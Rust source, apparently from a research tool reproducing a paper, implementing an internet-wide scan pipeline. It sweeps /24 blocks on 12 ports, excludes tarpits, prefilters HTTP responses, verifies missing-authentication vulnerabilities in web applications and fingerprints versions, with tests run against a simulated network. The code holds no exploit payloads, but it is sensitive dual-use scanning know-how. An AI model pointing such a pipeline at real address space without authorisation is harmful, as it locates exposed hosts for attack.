            telemetry: telemetry.clone(),
            prefilter: Arc::new(
                Prefilter::with_telemetry_and_retry(telemetry, config.retry.clone())
                    .with_scratch_reuse(config.scratch_reuse),
            ),
            fingerprinter: Arc::new(Fingerprinter::with_telemetry(telemetry)),
            metrics: PipelineMetrics::new(telemetry),
            tarpit_port_threshold: config.tarpit_port_threshold,
            verify: config.verify,
            fingerprint: config.fingerprint,
            parallelism: config.parallelism.max(1),
            scratch_reuse: config.scratch_reuse,
        }
    }

    /// Fold one batch's stage-I counts into the report.
    pub(crate) fn accumulate_sweep_counts(report: &mut ScanReport, batch: &PortScanResult) {
        report.addresses_probed += batch.addresses_probed;
        report.probes_sent += batch.probes_sent;
        for (port, n) in &batch.open_per_port {
            report.port_stats.entry(*port).or_default().open += *n;
        }
    }

    /// Stages II + III for one batch of stage-I results.
    pub(crate) async fn process_batch<T>(
        &self,
        client: &Client<T>,
        batch: PortScanResult,
        report: &mut ScanReport,
    ) where
        T: Transport + Clone + 'static,
    {
        let parallelism = self.parallelism;
        self.metrics.batches.incr();

        // Exclude all-ports-open artifacts.
        let by_host = batch.by_host();
        let mut endpoints = Vec::new();
        for (ip, ports) in &by_host {
            self.metrics.open_ports_per_host.observe(ports.len() as u64);
            if ports.len() >= self.tarpit_port_threshold {
                report.excluded_all_ports_open += 1;
                self.metrics.tarpit_excluded.incr();
                continue;
            }
            for port in ports {
                endpoints.push(nokeys_http::Endpoint::new(*ip, *port));
            }
        }

        // Stage II: bounded-concurrency probes, merged in endpoint order.
        let prefilter_result = self
            .prefilter
            .run_bounded(client, &endpoints, parallelism)
            .await;
        report.prefilter_discarded += prefilter_result.discarded;
        report.prefilter_silent += prefilter_result.silent;
        report.prefilter_hits += prefilter_result.hits.len() as u64;
        report.task_failures += prefilter_result.task_failures;
        for (port, stats) in &prefilter_result.per_port {
            let entry = report.port_stats.entry(*port).or_default();
            entry.http += stats.http;
            entry.https += stats.https;
        }

        // Group hits per host: one finding per (host, application).
        let mut per_host: BTreeMap<Ipv4Addr, Vec<PrefilterHit>> = BTreeMap::new();
        for hit in prefilter_result.hits {
            per_host.entry(hit.endpoint.ip).or_default().push(hit);
        }

        // Stage III + fingerprinting: persistent worker loops pull host
        // indices from a shared cursor (one task per concurrency slot
        // instead of one per host), and results merge in host order so
        // the findings list is identical to a sequential run.
        let verify = self.verify;
        let fingerprint = self.fingerprint;
        let scratch_reuse = self.scratch_reuse;
        if parallelism <= 1 || per_host.len() <= 1 {
            let mut scratch = crate::scratch::Scratch::new();
            for (_ip, hits) in per_host {
                if !scratch_reuse {
                    scratch = crate::scratch::Scratch::new();
                }
                let findings = Self::verify_host(
                    client.clone(),
                    self.telemetry.clone(),
                    Arc::clone(&self.fingerprinter),
                    verify,
                    fingerprint,
                    hits,
                    &mut scratch,
                )
                .await;
                self.metrics.note_findings(&findings);
                report.findings.extend(findings);
            }
            return;
        }

        let n_hosts = per_host.len();
        let queue = Arc::new(VerifyQueue {
            hosts: per_host
                .into_values()
                .map(|hits| std::sync::Mutex::new(Some(hits)))
                .collect(),
            cursor: std::sync::atomic::AtomicUsize::new(0),
            results: (0..n_hosts).map(|_| std::sync::OnceLock::new()).collect(),
        });
        let mut join_set = tokio::task::JoinSet::new();
        for _ in 0..parallelism.min(n_hosts) {
            let queue = Arc::clone(&queue);
            let client = client.clone();
            let telemetry = self.telemetry.clone();
            let fingerprinter = Arc::clone(&self.fingerprinter);
            join_set.spawn(async move {
                // One scratch arena per persistent verify worker: every
                // host this worker claims fingerprints through the same
                // reusable buffers.
                let mut scratch = crate::scratch::Scratch::new();
                loop {
                    let i = queue
                        .cursor
                        .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    if i >= queue.hosts.len() {
                        break;
                    }
                    let hits = queue.hosts[i]
                        .lock()
                        .expect("verify slot lock never poisoned")
                        .take()
                        .expect("each host index is claimed exactly once");
                    if !scratch_reuse {
                        scratch = crate::scratch::Scratch::new();
                    }
                    let findings = Self::verify_host(
                        client.clone(),
                        telemetry.clone(),
                        Arc::clone(&fingerprinter),
                        verify,
                        fingerprint,
                        hits,
                        &mut scratch,
                    )
                    .await;
                    let _ = queue.results[i].set(findings);
                }
            });
        }
        // A worker that panics mid-host leaves that host's slot empty;
        // survivors keep claiming the remaining indices from the cursor.
        while join_set.join_next().await.is_some() {}
        let results: Vec<Option<Vec<HostFinding>>> = match Arc::try_unwrap(queue) {
            Ok(queue) => queue
                .results
                .into_iter()
                .map(std::sync::OnceLock::into_inner)
                .collect(),
            Err(queue) => queue.results.iter().map(|r| r.get().cloned()).collect(),
        };
        for slot in results {
            match slot {
                Some(findings) => {
                    self.metrics.note_findings(&findings);
                    report.findings.extend(findings);
                }
                // A poisoned host must not abort the sweep: absorb the
                // loss (the host simply goes missing from the report,
                // like one lost to the network) and account for it.
                None => {
                    self.metrics.task_failures.incr();
                    report.task_failures += 1;
                }
            }
        }
    }

    /// Verify one host, producing one finding per *application* the host
    /// runs. An application running on several ports of the host is
    /// counted once (the paper's counting rule); distinct applications on
    /// distinct ports each count.
    async fn verify_host<T: Transport>(
        client: Client<T>,
        telemetry: Telemetry,
        fingerprinter: Arc<Fingerprinter>,
        verify: bool,
        fingerprint: bool,
        hits: Vec<PrefilterHit>,
        scratch: &mut crate::scratch::Scratch,
    ) -> Vec<HostFinding> {
        // Which endpoints does each candidate application appear on, and
        // which application is each endpoint's *strongest* match?
        let mut endpoints_of: BTreeMap<AppId, Vec<&PrefilterHit>> = BTreeMap::new();
        let mut primary_of: BTreeMap<AppId, &PrefilterHit> = BTreeMap::new();
        for hit in &hits {
            for &app in &hit.candidates {
                endpoints_of.entry(app).or_default().push(hit);
            }
            if let Some(&best) = hit.candidates.first() {
                primary_of.entry(best).or_insert(hit);
            }
        }

        let mut findings = Vec::new();
        for (app, app_hits) in endpoints_of {
            // Stage III: a MAV on any of the app's endpoints confirms it.
            let mut confirmed: Option<&PrefilterHit> = None;
            if verify {
                for hit in &app_hits {
                    if detect_mav_instrumented(&telemetry, &client, app, hit.endpoint, hit.scheme)
                        .await
                    {
                        confirmed = Some(hit);
                        break;
                    }
                }
            }
            // Attribute the host to this application if a plugin
            // confirmed it, or if it is the strongest match of one of
            // the host's endpoints (weak secondary matches alone do not
            // create findings).
            let hit = match (confirmed, primary_of.get(&app)) {
                (Some(hit), _) => hit,
                (None, Some(hit)) => hit,
                (None, None) => continue,
            };
            let mut finding = HostFinding {
                endpoint: hit.endpoint,
                scheme: hit.scheme,
                app,
                vulnerable: confirmed.is_some(),
                version: None,
                fingerprint_method: None,
            };
            if fingerprint {
                if let Some((version, method)) = fingerprinter
                    .fingerprint_with(&client, app, hit.endpoint, hit.scheme, scratch)
                    .await
                {
                    finding.version = Some(version);
                    finding.fingerprint_method = Some(method);
                }
            }
            findings.push(finding);
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_netsim::{SimTransport, Universe, UniverseConfig};

    async fn run_tiny() -> (Client<SimTransport>, ScanReport) {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))));
        let client = Client::new(t);
        let pipeline =
            Pipeline::new(PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build());
        let report = pipeline.run(&client).await.expect("pipeline failed");
        (client, report)
    }

    async fn run_tiny_parallel(seed: u64, parallelism: usize) -> ScanReport {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(seed))));
        let client = Client::new(t);
        let config = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .parallelism(parallelism)
            .build();
        Pipeline::new(config)
            .run(&client)
            .await
            .expect("pipeline failed")
    }

    #[test]
    fn builder_applies_every_knob() {
        let telemetry = Telemetry::new();
        let config = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .ports(vec![80, 443])
            .seed(7)
            .exclude_reserved(false)
            .max_probes_per_sec(Some(100.0))
            .dense_sweep(true)
            .blocks_per_batch(16)
            .tarpit_port_threshold(5)
            .fingerprint(false)
            .verify(false)
            .parallelism(4)
            .retries(5)
            .scratch_reuse(false)
            .telemetry(telemetry)
            .checkpoint_path("/tmp/nokeys-checkpoint.json")
            .checkpoint_every(3)
            .build();
        assert_eq!(config.portscan.ports, vec![80, 443]);
        assert_eq!(config.portscan.seed, 7);
        assert!(!config.portscan.exclude_reserved);
        assert_eq!(config.portscan.max_probes_per_sec, Some(100.0));
        assert!(config.portscan.dense_sweep);
        assert_eq!(config.blocks_per_batch, 16);
        assert_eq!(config.tarpit_port_threshold, 5);
        assert!(!config.fingerprint);
        assert!(!config.verify);
        assert_eq!(config.parallelism, 4);
        assert_eq!(config.retry.max_attempts, 5);
        assert!(!config.scratch_reuse);
        assert!(config.telemetry.is_some());
        assert_eq!(
            config.checkpoint_path.as_deref(),
            Some(Path::new("/tmp/nokeys-checkpoint.json"))
        );
        assert_eq!(config.checkpoint_every, 3);
    }

    #[test]
    #[should_panic(expected = "parallelism must be at least 1")]
    fn builder_rejects_zero_parallelism() {
        let _ = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).parallelism(0);
    }

    #[test]
    #[should_panic(expected = "checkpoint_every must be at least 1")]
    fn builder_rejects_zero_checkpoint_cadence() {
        let _ = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).checkpoint_every(0);
    }

    /// Duplicate, nested and split target blocks collapse to a disjoint
    /// cover of the same addresses.
    #[test]
    fn build_normalizes_overlapping_targets() {
        let targets: Vec<Cidr> = [
            "20.0.128.0/17",
            "20.0.0.0/16",
            "20.0.0.0/17",
            "20.0.0.0/16",
            "20.0.5.0/24",
            "10.9.0.0/24",
        ]
        .iter()
        .map(|s| s.parse().unwrap())
        .collect();
        let config = PipelineConfig::builder(targets).build();
        let expect: Vec<Cidr> = ["10.9.0.0/24", "20.0.0.0/16"]
            .iter()
            .map(|s| s.parse().unwrap())
            .collect();
        assert_eq!(config.portscan.targets, expect);
    }

    /// Overlapping targets produce the very report their union would —
    /// no address is swept or verified twice.
    #[tokio::test]
    async fn overlapping_targets_report_equals_their_union() {
        async fn run_with(targets: Vec<Cidr>) -> String {
            let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))));
            let client = Client::new(t);
            let pipeline = Pipeline::new(PipelineConfig::builder(targets).build());
            let report = pipeline.run(&client).await.expect("pipeline failed");
            serde_json::to_string(&report).unwrap()
        }
        let union = run_with(vec!["20.0.0.0/16".parse().unwrap()]).await;
        let overlapping = run_with(
            ["20.0.0.0/17", "20.0.0.0/16", "20.0.128.0/17", "20.0.77.0/24"]
                .iter()
                .map(|s| s.parse().unwrap())
                .collect(),
        )
        .await;
        assert_eq!(overlapping, union);
        // Adjacent halves with no explicit union behave the same: their
        // /24 decomposition (and thus the shuffled sweep order) matches
        // the full block's.
        let halves = run_with(
            ["20.0.128.0/17", "20.0.0.0/17"]
                .iter()
                .map(|s| s.parse().unwrap())
                .collect(),
        )
        .await;
        assert_eq!(halves, union);
    }

    #[test]
    fn retries_zero_and_one_both_disable_retrying() {
        let targets: Vec<Cidr> = vec!["20.0.0.0/16".parse().unwrap()];
        let zero = PipelineConfig::builder(targets.clone()).retries(0).build();
        let one = PipelineConfig::builder(targets).retries(1).build();
        assert_eq!(zero.retry.max_attempts, 1);
        assert!(!zero.retry.enabled());
        assert!(!one.retry.enabled());
    }

    #[test]
    fn tarpit_threshold_defaults_to_port_count() {
        // The default threshold tracks the *configured* ports, including
        // when they are overridden through the builder.
        let config = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .ports(vec![80, 443, 8080])
            .build();
        assert_eq!(config.tarpit_port_threshold, 3);
    }

    /// The defaults the removed `PipelineConfig::new` shim used to pin:
    /// a bare `builder(targets).build()` keeps the paper's settings.
    #[test]
    fn builder_defaults_are_the_papers_settings() {
        let targets: Vec<Cidr> = vec!["20.0.0.0/16".parse().unwrap()];
        let built = PipelineConfig::builder(targets).build();
        assert_eq!(built.blocks_per_batch, 64);
        assert_eq!(built.tarpit_port_threshold, built.portscan.ports.len());
        assert!(built.fingerprint);
        assert!(built.verify);
        assert_eq!(built.parallelism, 8);
        assert_eq!(built.shards, 1);
        assert_eq!(built.portscan.ports.len(), 12);
        assert_eq!(built.retry.attempts(), 3);
        assert!(built.scratch_reuse, "arena reuse is on by default");
    }

    #[tokio::test]
    async fn pipeline_matches_ground_truth_per_app() {
        let (client, report) = run_tiny().await;
        let universe = client.transport().universe();

        for app in AppId::in_scope() {
            let truth_hosts = universe
                .hosts()
                .filter(|h| h.awe().map(|(_, a)| a) == Some(app))
                .count() as u64;
            let truth_mavs = universe
                .vulnerable_hosts()
                .filter(|h| h.awe().map(|(_, a)| a) == Some(app))
                .count() as u64;
            assert_eq!(
                report.hosts_running(app),
                truth_hosts,
                "{app}: host count mismatch"
            );
            assert_eq!(report.mavs(app), truth_mavs, "{app}: MAV count mismatch");
        }
    }

    #[tokio::test]
    async fn pipeline_excludes_tarpits() {
        let (client, report) = run_tiny().await;
        let tarpits = client
            .transport()
            .universe()
            .hosts()
            .filter(|h| h.tarpit)
            .count() as u64;
        assert_eq!(report.excluded_all_ports_open, tarpits);
    }

    #[tokio::test]
    async fn pipeline_discards_background_noise() {
        let (_, report) = run_tiny().await;
        assert!(report.prefilter_discarded > 0);
        // Nothing in the findings is a background host.
        for f in &report.findings {
            assert!(AppId::in_scope().any(|a| a == f.app));
        }
    }

    #[tokio::test]
    async fn fingerprints_cover_most_findings() {
        let (_, report) = run_tiny().await;
        assert!(
            report.fingerprint_coverage() > 0.9,
            "coverage = {}",
            report.fingerprint_coverage()
        );
    }

    #[tokio::test]
    async fn port_stats_have_open_counts() {
        let (_, report) = run_tiny().await;
        assert!(report.port_stats.get(&80).map(|s| s.open).unwrap_or(0) > 0);
        // Port 80 never records HTTPS.
        assert_eq!(report.port_stats.get(&80).map(|s| s.https).unwrap_or(0), 0);
    }

    /// Pipeline-level counters agree with the report they were recorded
    /// alongside.
    #[tokio::test]
    async fn telemetry_reconciles_with_report() {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))));
        let client = Client::new(t);
        let telemetry = Telemetry::new();
        let pipeline = Pipeline::new(
            PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
                .telemetry(telemetry.clone())
                .build(),
        );
        let report = pipeline.run(&client).await.expect("pipeline failed");
        let snap = pipeline.telemetry().snapshot();
        // The external registry and the pipeline's view are the same.
        assert_eq!(snap.to_json(), telemetry.snapshot().to_json());
        assert_eq!(
            snap.counter("pipeline.tarpit_excluded"),
            report.excluded_all_ports_open
        );
        assert_eq!(
            snap.counter("pipeline.findings"),
            report.findings.len() as u64
        );
        assert_eq!(
            snap.counter("pipeline.mavs"),
            report.findings.iter().filter(|f| f.vulnerable).count() as u64
        );
        assert_eq!(snap.counter("stage1.probes_sent"), report.probes_sent);
        assert_eq!(
            snap.counter("stage1.addresses_probed"),
            report.addresses_probed
        );
        assert_eq!(snap.counter("stage2.hits"), report.prefilter_hits);
        // Stage III ran: confirmed verifications equal the MAV count.
        let confirmed: u64 = snap
            .counters
            .iter()
            .filter(|(k, _)| k.starts_with("stage3.verify.") && k.ends_with(".confirmed"))
            .map(|(_, v)| v)
            .sum();
        assert_eq!(confirmed, snap.counter("pipeline.mavs"));
    }

    /// Same seed, same parallelism, two runs: byte-identical reports.
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn concurrent_pipeline_is_deterministic() {
        let a = run_tiny_parallel(42, 8).await;
        let b = run_tiny_parallel(42, 8).await;
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap(),
            "same-seed concurrent runs must serialize identically"
        );
    }

    /// The concurrent report equals the sequential (`parallelism = 1`)
    /// report, at several concurrency levels.
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn concurrent_report_equals_sequential_report() {
        let sequential = serde_json::to_string(&run_tiny_parallel(42, 1).await).unwrap();
        for parallelism in [2, 8, 32] {
            let concurrent =
                serde_json::to_string(&run_tiny_parallel(42, parallelism).await).unwrap();
            assert_eq!(
                concurrent, sequential,
                "parallelism {parallelism} diverged from the sequential report"
            );
        }
    }
}
