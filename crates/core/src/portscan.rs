//! Stage I: masscan-style port sweep.
//!
//! Mirrors the paper's setup: the target space is decomposed into /24
//! blocks which are scanned in a deterministic *shuffled* order (to avoid
//! flooding any single network), IANA reserved ranges are excluded, and
//! only the 12 study ports are probed. Results are delivered in batches
//! so later (slower) stages can run on fresh data while the sweep
//! continues — the paper's answer to scan-vs-verify staleness.

use crate::rate::SharedPacer;
use crate::telemetry::{Counter, Telemetry, TelemetrySnapshot, Timer};
use nokeys_apps::SCAN_PORTS;
use nokeys_http::ip::BlockCoverage;
use nokeys_http::{Endpoint, ProbeOutcome, Transport};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

pub use nokeys_http::ip::{Cidr, ReservedRanges};

/// Port-scan configuration.
#[derive(Debug, Clone)]
pub struct PortScanConfig {
    /// Target blocks to sweep.
    pub targets: Vec<Cidr>,
    /// Ports to probe (defaults to the paper's 12).
    pub ports: Vec<u16>,
    /// Seed for the /24 shuffle.
    pub seed: u64,
    /// Exclude IANA reserved ranges.
    pub exclude_reserved: bool,
    /// Probe-rate ceiling in probes/second (token bucket); `None` scans
    /// at full speed. The paper paced its sweep to stay polite.
    ///
    /// With the sparse sweep (the default), tokens are drawn
    /// block-at-a-time ([`crate::rate::SharedPacer::acquire_many`]), so
    /// the cap holds as an average at block granularity rather than
    /// smoothing every probe: a transport without a sparse index emits
    /// a /24's probes back-to-back after the block's wait. Set
    /// [`dense_sweep`](Self::dense_sweep) to restore per-probe
    /// smoothing. A sharded pipeline threads one [`SharedPacer`] through
    /// every shard worker, so the ceiling bounds the whole scan, not
    /// each shard.
    ///
    /// [`SharedPacer`]: crate::rate::SharedPacer
    pub max_probes_per_sec: Option<f64>,
    /// Probe every address of every block one endpoint at a time
    /// instead of handing whole /24 blocks to
    /// [`Transport::sweep_block`]. The sparse sweep (default) produces
    /// byte-identical reports and telemetry; this switch keeps the
    /// dense loop available as a differential-testing oracle and as an
    /// escape hatch for transports whose `sweep_block` is untrusted.
    pub dense_sweep: bool,
}

impl PortScanConfig {
    pub fn new(targets: Vec<Cidr>) -> Self {
        PortScanConfig {
            targets,
            ports: SCAN_PORTS.to_vec(),
            seed: 0x6e6f6b657973, // "nokeys"
            exclude_reserved: true,
            max_probes_per_sec: None,
            dense_sweep: false,
        }
    }
}

/// Result of sweeping one batch (or the whole space).
#[derive(Debug, Clone, Default)]
pub struct PortScanResult {
    /// Open endpoints in discovery order.
    pub open: Vec<Endpoint>,
    /// Open-port counts per port (Table 2, column "# Open").
    pub open_per_port: BTreeMap<u16, u64>,
    /// Number of addresses probed.
    pub addresses_probed: u64,
    /// Number of individual (address, port) probes sent. This counts
    /// *logical* probes — one per (address, port) pair. Transport-level
    /// retransmits (a [`RetryPolicy`](crate::retry::RetryPolicy)
    /// re-probing a filtered endpoint) are deliberately not counted, so
    /// fault-injected runs with retries reconcile with fault-free
    /// reports.
    pub probes_sent: u64,
}

/// Aggregate counters of a streamed sweep. The per-batch endpoint sets
/// are handed to the consumer through the channel and never buffered
/// here — only the Table 2 counters are accumulated.
#[derive(Debug, Clone, Default)]
pub struct SweepTotals {
    /// Number of addresses probed.
    pub addresses_probed: u64,
    /// Number of individual (address, port) probes sent.
    pub probes_sent: u64,
    /// Open-port counts per port.
    pub open_per_port: BTreeMap<u16, u64>,
}

impl SweepTotals {
    fn absorb_counters(&mut self, batch: &PortScanResult) {
        self.addresses_probed += batch.addresses_probed;
        self.probes_sent += batch.probes_sent;
        for (port, n) in &batch.open_per_port {
            *self.open_per_port.entry(*port).or_default() += *n;
        }
    }
}

impl PortScanResult {
    pub(crate) fn absorb(&mut self, other: PortScanResult) {
        self.open.extend(other.open);
        for (port, n) in other.open_per_port {
            *self.open_per_port.entry(port).or_default() += n;
        }
        self.addresses_probed += other.addresses_probed;
        self.probes_sent += other.probes_sent;
    }

    /// Group open endpoints by address (hosts with several open ports).
    pub fn by_host(&self) -> BTreeMap<Ipv4Addr, Vec<u16>> {
        let mut map: BTreeMap<Ipv4Addr, Vec<u16>> = BTreeMap::new();
        for ep in &self.open {
            map.entry(ep.ip).or_default().push(ep.port);
        }
        map
    }
}

/// One message of a checkpointed streamed sweep
/// ([`PortScanner::scan_stream_staged`]).
#[derive(Debug)]
pub enum SweepMsg {
    /// A completed batch, plus the delta of the sweep's staging
    /// telemetry registry covering exactly the work performed since the
    /// previous message. Absorbing every delta in order reconstructs
    /// the sweep-side telemetry of the delivered prefix.
    Batch {
        /// Batch sequence number (0-based, counting from the start of
        /// the whole sweep — a resumed sweep starts above 0).
        seq: u64,
        /// The batch's open endpoints and counters.
        batch: PortScanResult,
        /// Staging-telemetry delta attributable to this batch.
        delta: TelemetrySnapshot,
    },
    /// Telemetry recorded after the last emitted batch (trailing blocks
    /// that produced no batch — e.g. entirely reserved ranges). Sent
    /// exactly once, when the sweep completes.
    Epilogue {
        /// Staging-telemetry delta since the last batch.
        delta: TelemetrySnapshot,
    },
}

/// Cached stage-I telemetry handles (clone-cheap; all clones of a
/// scanner record into the same instruments).
#[derive(Debug, Clone)]
struct SweepMetrics {
    blocks_swept: Counter,
    addresses_probed: Counter,
    probes_sent: Counter,
    ports_open: Counter,
    sweep: Timer,
}

impl SweepMetrics {
    fn new(telemetry: &Telemetry) -> Self {
        SweepMetrics {
            blocks_swept: telemetry.counter("stage1.blocks_swept"),
            addresses_probed: telemetry.counter("stage1.addresses_probed"),
            probes_sent: telemetry.counter("stage1.probes_sent"),
            ports_open: telemetry.counter("stage1.ports_open"),
            sweep: telemetry.timer("stage1.sweep"),
        }
    }
}

/// The stage-I scanner.
#[derive(Debug, Clone)]
pub struct PortScanner {
    config: PortScanConfig,
    reserved: ReservedRanges,
    metrics: SweepMetrics,
    external_pacer: Option<SharedPacer>,
}

impl PortScanner {
    pub fn new(config: PortScanConfig) -> Self {
        Self::with_telemetry(config, &Telemetry::default())
    }

    /// Build a scanner that records stage-I counters ("blocks swept",
    /// "probes sent", "ports open") and sweep timings into `telemetry`.
    pub fn with_telemetry(config: PortScanConfig, telemetry: &Telemetry) -> Self {
        PortScanner {
            config,
            reserved: ReservedRanges::iana(),
            metrics: SweepMetrics::new(telemetry),
            external_pacer: None,
        }
    }

    /// Draw probe tokens from `pacer` instead of constructing a private
    /// bucket from `max_probes_per_sec`. The job engine injects its
    /// chained job→tenant→global pacer here so one scanner's sweep is
    /// charged against every quota level; pacing never changes report
    /// bytes, only virtual waiting time.
    pub fn with_shared_pacer(mut self, pacer: SharedPacer) -> Self {
        self.external_pacer = Some(pacer);
        self
    }

    /// The subset of shuffled /24 blocks assigned to shard `k` of `n` —
    /// how the paper's 64 machines split the address space. Shards
    /// partition the block list: every block belongs to exactly one
    /// shard, and the shuffle keeps each shard's load statistically even.
    pub fn shard_blocks(&self, k: usize, n: usize) -> Vec<Cidr> {
        assert!(n > 0 && k < n, "shard index {k} out of {n}");
        self.shuffled_blocks()
            .into_iter()
            .enumerate()
            .filter(|(i, _)| i % n == k)
            .map(|(_, b)| b)
            .collect()
    }

    /// Sweep only shard `k` of `n` (for running one member of a scanning
    /// fleet).
    pub async fn scan_shard<T: Transport>(
        &self,
        transport: &T,
        k: usize,
        n: usize,
    ) -> PortScanResult {
        let pacer = self.pacer();
        let mut total = PortScanResult::default();
        for block in self.shard_blocks(k, n) {
            total.absorb(self.scan_block_paced(transport, block, &pacer).await);
        }
        total
    }

    /// A fresh [`SharedPacer`] enforcing this scanner's configured rate
    /// ceiling (`None` when unpaced). Sweeps that must share one token
    /// budget — the batches of a streamed sweep, or every worker of a
    /// sharded pipeline — construct this once and thread the clone-cheap
    /// handle through; constructing one per block would grant a fresh
    /// burst allowance each time and overshoot the ceiling.
    pub fn pacer(&self) -> Option<SharedPacer> {
        if let Some(external) = &self.external_pacer {
            return Some(external.clone());
        }
        self.config
            .max_probes_per_sec
            .map(|rate| SharedPacer::new(rate, rate.max(1.0)))
    }

    /// The /24 blocks of all targets in the deterministic shuffled scan
    /// order.
    pub fn shuffled_blocks(&self) -> Vec<Cidr> {
        let mut blocks: Vec<Cidr> = self
            .config
            .targets
            .iter()
            .flat_map(|t| t.slash24_blocks())
            .collect();
        // Fisher–Yates with a splitmix-style PRNG; deterministic in the
        // seed and independent of the `rand` crate's version.
        let mut state = self.config.seed | 1;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        for i in (1..blocks.len()).rev() {
            let j = (next() % (i as u64 + 1)) as usize;
            blocks.swap(i, j);
        }
        blocks
    }

    /// Sweep one /24 block.
    pub async fn scan_block<T: Transport>(&self, transport: &T, block: Cidr) -> PortScanResult {
        let pacer = self.pacer();
        self.scan_block_paced(transport, block, &pacer).await
    }

    /// Sweep the given /24 blocks in order, drawing probe tokens from
    /// `pacer` if present. This is the shard-worker entry point: each
    /// worker sweeps the block slice of one batch at a time, all
    /// drawing from the one shared pacer.
    pub async fn scan_blocks<T: Transport>(
        &self,
        transport: &T,
        blocks: &[Cidr],
        pacer: &Option<SharedPacer>,
    ) -> PortScanResult {
        let mut total = PortScanResult::default();
        for &block in blocks {
            total.absorb(self.scan_block_paced(transport, block, pacer).await);
        }
        total
    }

    /// Sweep one /24 block, drawing probe tokens from `pacer` if present.
    pub async fn scan_block_paced<T: Transport>(
        &self,
        transport: &T,
        block: Cidr,
        pacer: &Option<SharedPacer>,
    ) -> PortScanResult {
        let result = if self.config.dense_sweep {
            self.scan_block_dense(transport, block, pacer).await
        } else {
            self.scan_block_sparse(transport, block, pacer).await
        };
        self.metrics.blocks_swept.incr();
        self.metrics.addresses_probed.add(result.addresses_probed);
        self.metrics.probes_sent.add(result.probes_sent);
        self.metrics.ports_open.add(result.open.len() as u64);
        // One virtual unit per probe: the block's share of sweep time.
        self.metrics.sweep.record(result.probes_sent);
        result
    }

    /// The dense per-endpoint loop: one `probe` call and one pacer
    /// token per (address, port) pair. The oracle the sparse path must
    /// reproduce byte for byte.
    async fn scan_block_dense<T: Transport>(
        &self,
        transport: &T,
        block: Cidr,
        pacer: &Option<SharedPacer>,
    ) -> PortScanResult {
        let mut result = PortScanResult::default();
        for ip in block.addresses() {
            if self.config.exclude_reserved && self.reserved.contains(ip) {
                continue;
            }
            result.addresses_probed += 1;
            for &port in &self.config.ports {
                if let Some(p) = pacer {
                    p.acquire().await;
                }
                result.probes_sent += 1;
                let ep = Endpoint::new(ip, port);
                if transport.probe(ep).await == ProbeOutcome::Open {
                    result.open.push(ep);
                    *result.open_per_port.entry(port).or_default() += 1;
                }
            }
        }
        result
    }

    /// The sparse fast path: classify the block against the exclusion
    /// list once, draw the whole block's pacer tokens in one step, and
    /// hand the block to [`Transport::sweep_block`] so a transport with
    /// an endpoint index visits only populated addresses.
    async fn scan_block_sparse<T: Transport>(
        &self,
        transport: &T,
        block: Cidr,
        pacer: &Option<SharedPacer>,
    ) -> PortScanResult {
        if self.config.exclude_reserved {
            match self.reserved.coverage(block) {
                // The dense loop would have skipped every address.
                BlockCoverage::Full => return PortScanResult::default(),
                // A /24-or-smaller scan block never straddles an IANA
                // range (all prefixes are ≤ 24), but stay correct for
                // any exclusion list by falling back to the loop.
                BlockCoverage::Partial => {
                    return self.scan_block_dense(transport, block, pacer).await
                }
                BlockCoverage::None => {}
            }
        }
        if let Some(p) = pacer {
            p.acquire_many(block.size() * self.config.ports.len() as u64)
                .await;
        }
        let sweep = transport.sweep_block(block, &self.config.ports).await;
        let mut result = PortScanResult {
            addresses_probed: sweep.addresses_probed,
            probes_sent: sweep.probes_sent(),
            ..PortScanResult::default()
        };
        for ep in sweep.open() {
            result.open.push(ep);
            *result.open_per_port.entry(ep.port).or_default() += 1;
        }
        result
    }

    /// Sweep the whole target space sequentially (deterministic; used
    /// with the simulated transport where probes are immediate).
    pub async fn scan<T: Transport>(&self, transport: &T) -> PortScanResult {
        let pacer = self.pacer();
        let mut total = PortScanResult::default();
        for block in self.shuffled_blocks() {
            total.absorb(self.scan_block_paced(transport, block, &pacer).await);
        }
        total
    }

    /// Sweep in batches of `blocks_per_batch` /24 blocks, invoking
    /// `on_batch` after each so the full pipeline can process fresh
    /// results before the sweep continues.
    pub async fn scan_batched<T, F>(
        &self,
        transport: &T,
        blocks_per_batch: usize,
        mut on_batch: F,
    ) -> PortScanResult
    where
        T: Transport,
        F: FnMut(&PortScanResult),
    {
        assert!(blocks_per_batch > 0, "batch size must be positive");
        // One pacer for the whole sweep: a per-block pacer would grant
        // a fresh burst allowance for every block and overshoot the
        // configured aggregate rate.
        let pacer = self.pacer();
        let mut total = PortScanResult::default();
        let mut batch = PortScanResult::default();
        for (i, block) in self.shuffled_blocks().into_iter().enumerate() {
            batch.absorb(self.scan_block_paced(transport, block, &pacer).await);
            if (i + 1) % blocks_per_batch == 0 {
                on_batch(&batch);
                total.absorb(std::mem::take(&mut batch));
            }
        }
        if !batch.open.is_empty() || batch.probes_sent > 0 {
            on_batch(&batch);
            total.absorb(batch);
        }
        total
    }

    /// Sweep in batches of `blocks_per_batch` /24 blocks, sending each
    /// batch (tagged with its sequence index) into `tx` as soon as it
    /// completes so the later pipeline stages run on fresh results while
    /// the sweep continues. Batches are moved, never cloned.
    ///
    /// Returns the aggregate counters; the open-endpoint sets travel
    /// only through the channel. If the receiver goes away the sweep
    /// stops early and reports what it covered.
    pub async fn scan_stream<T: Transport>(
        &self,
        transport: &T,
        blocks_per_batch: usize,
        tx: tokio::sync::mpsc::Sender<(u64, PortScanResult)>,
    ) -> SweepTotals {
